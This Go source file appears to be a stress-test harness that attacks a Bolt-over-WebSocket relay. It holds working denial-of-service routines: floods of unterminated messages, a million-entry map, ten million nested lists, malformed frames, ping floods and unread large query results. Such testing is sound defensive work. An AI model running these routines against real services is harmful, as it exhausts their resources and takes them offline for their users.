//go:build linux

package main

import (
	"context"
	"encoding/binary"
	"net"
	"time"

	"github.com/gorilla/websocket"

	"github.com/webbolt/webbolt/client/packstream"
	"github.com/webbolt/webbolt/client/wire"
)

// session logs in as an attacker; nil if the relay does not let it.
func (t *target) session(i int) *bolt {
	b, err := login(t.from(i), t.relay.address, attackToken)
	if err != nil {
		return nil
	}
	return b
}

// unfinishedMessages holds as much as it can of messages without an end, from ten addresses.
func unfinishedMessages(ctx context.Context, t *target) {
	const chunk = 60_000
	part := append(binary.BigEndian.AppendUint16(nil, chunk), make([]byte, chunk)...)
	t.hold(ctx, 60, 100*time.Millisecond, func(i int) net.Conn {
		b := t.session(i % 10)
		if b == nil {
			return nil
		}
		for sent := 0; sent < 15<<20; sent += chunk {
			_ = b.ws.SetWriteDeadline(time.Now().Add(time.Second))
			if b.ws.WriteMessage(websocket.BinaryMessage, part) != nil {
				break
			}
		}
		return b.ws.NetConn()
	})
}

// repeat sends a message over and over, on connections of its own.
func (t *target) repeat(ctx context.Context, message []byte) {
	for i := 0; t.attempt(ctx, 300*time.Millisecond); i++ {
		b := t.session(i % 4)
		if b == nil {
			continue
		}
		stop := context.AfterFunc(ctx, b.close)
		if b.send(message) == nil {
			_, _, _ = b.answer()
		}
		stop()
		b.close()
	}
}

func manyEntries(ctx context.Context, t *target) {
	const n = 1_000_000
	m := packstream.AppendMapHeader(packstream.AppendStructHeader(nil, wire.MessageBegin, 1), n)
	for i := range n {
		m = packstream.AppendInt(packstream.AppendString(m, string(
			binary.BigEndian.AppendUint32(nil, 0x41414141+uint32(i&0x3F3F3F3F)))), 1)
	}
	t.repeat(ctx, m)
}

func nestedValues(ctx context.Context, t *target) {
	m := packstream.AppendString(packstream.AppendStructHeader(nil, wire.MessageRun, 3), "RETURN $x")
	m = packstream.AppendString(packstream.AppendMapHeader(m, 1), "x")
	for range 10 << 20 {
		m = append(m, 0x91) // a list of one
	}
	t.repeat(ctx, m)
}

func garbageFrames(ctx context.Context, t *target) {
	frames := [][]byte{{0x82, 0x01, 0}, {0xF2, 0x81, 0, 0, 0, 0, 0}, {0x89, 0xFE, 1, 0, 0, 0, 0, 0},
		{0x82, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0, 0}}
	for i := 0; t.attempt(ctx, 20*time.Millisecond); i++ {
		b, err := openWS(t.from(0), t.relay.address, "/bolt", nil)
		if err != nil {
			continue
		}
		_ = write(b.ws.NetConn(), string(frames[i%len(frames)]))
		discard(b.ws.NetConn(), 100*time.Millisecond)
	}
}

func pings(ctx context.Context, t *target) {
	for t.attempt(ctx, 100*time.Millisecond) {
		b := t.session(0)
		if b == nil {
			continue
		}
		for range 2000 {
			if ctx.Err() != nil || b.ws.WriteControl(websocket.PingMessage, make([]byte, 125),
				time.Now().Add(time.Second)) != nil {
				break
			}
		}
		b.close()
	}
}

// resultsNotTaken requests large results and reads nothing.
func resultsNotTaken(ctx context.Context, t *target) {
	t.hold(ctx, 20, time.Second, func(int) net.Conn {
		b := t.session(0)
		if b == nil {
			return nil
		}
		_ = b.ask(wire.MessageRun, "UNWIND range(1, 1000000) AS i RETURN i, toString(i)", dict{}, dict{})
		_ = b.ask(wire.MessagePull, dict{"n": int64(-1)})
		return b.ws.NetConn()
	})
}
